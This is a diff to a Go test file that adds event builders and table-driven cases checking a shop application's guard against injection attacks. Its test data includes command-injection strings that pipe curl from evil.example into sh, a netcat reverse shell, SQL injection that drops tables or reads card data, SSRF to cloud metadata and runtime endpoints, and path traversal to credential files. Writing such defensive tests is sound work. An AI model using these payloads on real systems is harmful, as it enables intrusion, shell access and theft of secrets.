@@ -98,6 +98,24 @@ var (
 			"s3": object{"s3SchemaVersion": "1.0", "bucket": object{"name": "media", "arn": "arn:aws:s3:::media"}, "object": object{"key": v, "size": 1, "eTag": "x", "sequencer": "1"}},
 		}}}
 	}}
+	sorting = shopEvent{"CatalogSearch", func(v string) any {
+		return restRequest("GET", "/products", "/products", object{"q": "desk", "sort": v}, nil, nil)
+	}}
+	show = shopEvent{"GetOrder", func(v string) any {
+		e := restRequest("GET", "/orders/{id}", "/orders/1", nil, object{"id": v}, nil).(object)
+		e["headers"] = object{"Authorization": "Bearer e30.e30.x"}
+		return e
+	}}
+	feed = shopEvent{"ImportCatalog", func(v string) any {
+		return object{
+			"version": "2.0", "routeKey": "$default", "rawPath": "/", "rawQueryString": "", "headers": object{"content-type": "application/json"},
+			"requestContext": object{"accountId": "anonymous", "apiId": "x", "domainName": "x.lambda-url.eu-west-1.on.aws", "http": object{"method": "POST", "path": "/", "sourceIp": "203.0.113.9"}, "requestId": "r"},
+			"body":           text(object{"feed": v}), "isBase64Encoded": false,
+		}
+	}}
+	note = shopEvent{"OrderWorker", func(v string) any {
+		return message(object{"orderId": "42", "customer": "Anna", "note": v})
+	}}
 	customer = shopEvent{"OrderWorker", func(v string) any {
 		return message(object{"orderId": "42", "customer": v, "note": "ring twice"})
 	}}
@@ -135,6 +153,11 @@ func TestGuardShopAttacks(t *testing.T) {
 		{order, "deserialization", []string{`{"options":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`}},
 		{upload, "command", []string{"x$(id).jpg", "a;curl+evil.example|sh;.png", "%60id%60.jpg"}},
 		{upload, "path", []string{"../../../../etc/passwd", "..%2F..%2Ftmp%2Fx"}},
+		{sorting, "sql", []string{"price; DROP TABLE products", "(SELECT card FROM payments LIMIT 1)"}},
+		{note, "command", []string{"$(curl evil.example | sh)", "`id`", "x; nc evil.example 1 -e /bin/sh"}},
+		{orderID, "command", []string{"x; id", "$(id)"}},
+		{feed, "ssrf", []string{"http://169.254.169.254/latest/meta-data/", "file:///proc/self/environ", "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next"}},
+		{show, "sql", []string{"' OR '1'='1", "x' OR attribute_exists(id) OR id='"}},
 		{customer, "command", []string{"x; cat /etc/passwd", "$(curl evil.example)", "a | nc evil.example 1"}},
 		{orderID, "path", []string{"../../etc/passwd", "/proc/self/environ"}},
 		{amount, "command", []string{"__import__('os').system('id')"}},
